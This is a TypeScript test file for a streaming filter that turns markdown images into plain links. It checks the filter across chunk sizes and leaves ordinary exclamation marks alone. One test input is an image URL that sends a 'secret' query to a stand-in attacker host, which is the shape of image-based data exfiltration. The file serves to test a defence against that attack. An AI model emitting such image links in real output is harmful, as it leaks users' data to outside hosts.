import { expect, test } from 'vitest'
import { streamWithoutImages } from './stream-without-images.ts'

const streamed = (text: string, size: number) => {
  const pieces: string[] = []
  const stream = streamWithoutImages((piece) => void pieces.push(piece))
  for (let at = 0; at < text.length; at += size) stream.write(text.slice(at, at + size))
  stream.end()
  return pieces.join('')
}

test.each([
  ['a ![x](https://evil.example/?q=secret) b', 'a [x](https://evil.example/?q=secret) b'],
  ['!![x](y)', '[x](y)'],
  ['![a ![b](c)][d]', '[a [b](c)][d]'],
  ['Stop! [link](x) and 5! = 120!', 'Stop! [link](x) and 5! = 120!'],
  ['Wow!!!', 'Wow!!!'],
])('%s, in pieces of any size', (text, expected) => {
  for (const size of [1, 2, 3, 7, 100]) expect(streamed(text, size)).toBe(expected)
})
